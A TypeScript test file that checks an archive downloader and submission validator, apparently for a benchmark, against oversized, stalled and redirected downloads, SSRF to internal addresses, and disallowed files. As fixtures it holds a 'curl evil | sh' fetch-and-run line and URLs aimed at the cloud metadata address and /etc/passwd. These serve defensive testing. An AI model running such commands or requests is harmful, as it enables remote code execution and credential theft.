import { existsSync, readdirSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { testdir } from '../../../test/support/testdir.ts';
import { checkArchiveUrl, createHttpArchiveFetcher } from './fetch-archive.ts';
import { validateSubmission } from './validate-submission.ts';
import { packTar, packTarGz } from '../archive/write-tar.ts';
import { CLAUDE_LOG, DECK, manifest, sha, SUITE } from './validate-fixtures.testkit.ts';

// A local HTTP server standing in for the archive host: network is off in tests, loopback is not.
const ARCHIVE = Buffer.alloc(200_000, 7);
// A real artifact set as .tar.gz, and one with problems inside (wrong type, unknown task).
const GOOD_TGZ = packTarGz([
  { path: 'artifacts/t-a/output.pptx', data: DECK },
  { path: 'artifacts/t-a/output.py', data: Buffer.from('from pptx import Presentation\n') },
  { path: 'artifacts/t-a/output.jsonl', data: Buffer.from(CLAUDE_LOG) },
  { path: 'artifacts/t-b/error.log', data: Buffer.from('timed out\n') },
]);
const BAD_TAR = packTar([
  { path: 'artifacts/t-a/output.pptx', data: DECK },
  { path: 'artifacts/t-a/run.sh', data: Buffer.from('curl evil | sh\n') },
  { path: 'artifacts/zz-unknown/output.pptx', data: DECK },
]);
let server: http.Server;
let base: string;
const hits: string[] = [];

beforeAll(async () => {
  server = http.createServer((req, res) => {
    hits.push(req.url ?? '');
    switch (req.url) {
      case '/archive.tar.gz':
        res.writeHead(200, { 'content-length': ARCHIVE.length });
        res.end(ARCHIVE);
        return;
      case '/artifacts.tar.gz':
        res.writeHead(200, { 'content-length': GOOD_TGZ.length });
        res.end(GOOD_TGZ);
        return;
      case '/bad.tar':
        res.writeHead(200, { 'content-length': BAD_TAR.length });
        res.end(BAD_TAR);
        return;
      case '/moved':
        res.writeHead(302, { location: '/archive.tar.gz' });
        res.end();
        return;
      case '/to-plain-http':
        res.writeHead(302, { location: 'http://example.org/archive.tar.gz' });
        res.end();
        return;
      case '/declared-huge':
        res.writeHead(200, { 'content-length': 10 * 1024 * 1024 * 1024 });
        res.end();
        return;
      case '/endless': {
        // No Content-Length: the limit must be enforced while streaming.
        res.writeHead(200);
        const chunk = Buffer.alloc(64 * 1024);
        const pump = () => {
          while (res.write(chunk)) {
            if (res.destroyed) return;
          }
          res.once('drain', pump);
        };
        pump();
        return;
      }
      case '/stall':
        res.writeHead(200, { 'content-length': 1000 });
        res.write('x'); // then nothing: the deadline must fire
        return;
      default:
        res.writeHead(404);
        res.end('not found');
    }
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  server.closeAllConnections();
  await new Promise((r) => server.close(r));
});

describe('archive download', () => {
  const fetcher = createHttpArchiveFetcher({ allowLoopback: true });
  const opts = (dest: string, maxBytes = 1_000_000, timeoutMs = 5_000) => ({
    dest,
    maxBytes,
    timeoutMs,
  });

  it('downloads, follows a redirect and hashes while streaming', async () => {
    const t = await testdir({});
    try {
      const got = await fetcher.fetch(`${base}/moved`, opts(join(t.dir, 'a.archive')));
      expect(got).toEqual({ bytes: ARCHIVE.length, sha256: sha(ARCHIVE) });
      expect(readdirSync(t.dir)).toEqual(['a.archive']);
    } finally {
      await t.cleanup();
    }
  });

  it.each([
    ['/declared-huge', 'archive-too-large'],
    ['/endless', 'archive-too-large'],
    ['/missing', 'archive-fetch-failed'],
    ['/to-plain-http', 'archive-url'],
  ])('refuses %s with %s and leaves no partial file', async (path, code) => {
    const t = await testdir({});
    try {
      await expect(
        fetcher.fetch(`${base}${path}`, opts(join(t.dir, 'a.archive'))),
      ).rejects.toMatchObject({ code });
      expect(readdirSync(t.dir)).toEqual([]);
    } finally {
      await t.cleanup();
    }
  });

  it('gives up at the deadline', async () => {
    const t = await testdir({});
    try {
      const started = Date.now();
      await expect(
        fetcher.fetch(`${base}/stall`, opts(join(t.dir, 'a.archive'), 1_000_000, 300)),
      ).rejects.toMatchObject({ code: 'archive-timeout' });
      expect(Date.now() - started).toBeLessThan(3_000);
      expect(existsSync(join(t.dir, 'a.archive.part'))).toBe(false);
    } finally {
      await t.cleanup();
    }
  });

  it('accepts https anywhere, plain http only on loopback, never credentials', () => {
    expect(checkArchiveUrl('https://zenodo.org/records/1/files/a.tar.gz').hostname).toBe(
      'zenodo.org',
    );
    expect(checkArchiveUrl('http://127.0.0.1:8080/a.tar.gz', { allowLoopback: true }).port).toBe(
      '8080',
    );
    expect(() => checkArchiveUrl('http://example.org/a.tar.gz')).toThrow(/must use https/);
    expect(() => checkArchiveUrl('https://user:pw@example.org/a.tar.gz')).toThrow(/credentials/);
    expect(() => checkArchiveUrl('file:///etc/passwd')).toThrow(/must use https/);
  });
});

describe('archive URLs never reach inside the network (issue 12, finding 8)', () => {
  it.each([
    [
      'https://169.254.169.254/latest/meta-data/a.tar.gz',
      'a link-local address (where cloud metadata services live)',
    ],
    ['https://[fd00:ec2::254]/a.tar.gz', 'a private, reserved or special-purpose address'],
    ['https://10.1.2.3/a.tar.gz', 'a private, reserved or special-purpose address'],
    ['https://192.168.1.1/a.tar.gz', 'a private, reserved or special-purpose address'],
    ['https://172.20.0.1/a.tar.gz', 'a private, reserved or special-purpose address'],
    ['https://100.64.0.1/a.tar.gz', 'a private, reserved or special-purpose address'],
    ['https://0.0.0.0/a.tar.gz', 'a private, reserved or special-purpose address'],
    [
      'https://[::ffff:169.254.169.254]/a.tar.gz',
      'a link-local address (where cloud metadata services live)',
    ],
    ['https://[fe80::1]/a.tar.gz', 'a link-local address (where cloud metadata services live)'],
    ['https://127.0.0.1/a.tar.gz', 'a loopback address'],
    ['https://[::1]/a.tar.gz', 'a loopback address'],
  ])('refuses %s (%s)', (url, why) => {
    expect(() => checkArchiveUrl(url)).toThrow(`archive URL points at ${why}`);
  });

  it('checks the addresses a host name resolves to, before connecting', async () => {
    // `localhost` names no address in the URL; the system resolver turns it into loopback, and
    // the lookup the downloader connects through refuses that before any connection is made.
    const t = await testdir({});
    const hitsBefore = [...hits];
    try {
      const loopbackName = `https://localhost:${new URL(base).port}/artifacts.tar.gz`;
      expect(checkArchiveUrl(loopbackName).hostname).toBe('localhost');
      await expect(
        createHttpArchiveFetcher().fetch(loopbackName, {
          dest: join(t.dir, 'a.archive'),
          maxBytes: 1e6,
          timeoutMs: 5000,
        }),
      ).rejects.toMatchObject({ code: 'archive-url', message: expect.stringMatching(/loopback/) });
      expect(hits).toEqual(hitsBefore);
    } finally {
      await t.cleanup();
    }
  });
});

describe('validateSubmission with archive: {url, sha256}', () => {
  async function validateWith(url: string, hash: string) {
    const yml = manifest('archived', `archive:\n  url: ${url}\n  sha256: ${hash}\n`);
    const t = await testdir({
      'suites/mini/suite.json': JSON.stringify(SUITE),
      'submissions/archived/submission.yml': yml,
    });
    try {
      return await validateSubmission({
        dir: join(t.dir, 'submissions/archived'),
        display: 'submissions/archived',
        fetcher: createHttpArchiveFetcher({ allowLoopback: true }),
        cacheDir: join(t.dir, 'cache'),
      });
    } finally {
      await t.cleanup();
    }
  }

  it('verifies the archive hash and needs no SHA256SUMS', async () => {
    const r = await validateWith(`${base}/artifacts.tar.gz`, sha(GOOD_TGZ));
    expect(r.errors).toEqual([]);
    expect(r.value?.archive).toMatchObject({ bytes: GOOD_TGZ.length, sha256: sha(GOOD_TGZ) });
  });

  it('reports a hash mismatch and a failed download as errors on submission.yml', async () => {
    const wrong = await validateWith(`${base}/archive.tar.gz`, 'a'.repeat(64));
    expect(wrong.errors.map((p) => [p.file, p.rule, p.got])).toEqual([
      ['submissions/archived/submission.yml', 'archive-hash-mismatch', sha(ARCHIVE)],
    ]);
    const gone = await validateWith(`${base}/missing`, sha(ARCHIVE));
    expect(gone.errors.map((p) => [p.rule, p.got])).toEqual([['archive-fetch-failed', 'HTTP 404']]);
  });

  it('unpacks the verified archive safely and checks its content like inline artifacts', async () => {
    const r = await validateWith(`${base}/artifacts.tar.gz`, sha(GOOD_TGZ));
    expect(r.errors).toEqual([]);
    expect(r.inventory).toEqual({
      tasks: ['t-a', 't-b'],
      missing: ['t-c'],
      logs: ['artifacts/t-a/output.jsonl'],
    });
    expect(r.warnings.map((p) => `${p.file} [${p.rule}]`)).toEqual([
      'submissions/archived/<archive>/artifacts [incomplete]',
      'submissions/archived/<archive>/artifacts [missing-tasks]',
      'submissions/archived/<archive>/artifacts/t-b/error.log [error-log-only]',
    ]);
    expect(r.value?.archive?.extractedDir).toMatch(/\.archive\.d$/);
  });

  it('reports problems inside the archive with the archive named in the path', async () => {
    const r = await validateWith(`${base}/bad.tar`, sha(BAD_TAR));
    expect(r.errors.map((p) => `${p.file} [${p.rule}]`)).toEqual([
      'submissions/archived/<archive>/artifacts/t-a/run.sh [disallowed-file]',
      'submissions/archived/<archive>/artifacts/zz-unknown [unknown-task]',
    ]);
    const notTar = await validateWith(`${base}/archive.tar.gz`, sha(ARCHIVE));
    expect(notTar.errors.map((p) => p.rule)).toEqual(['archive-format']);
  });
});
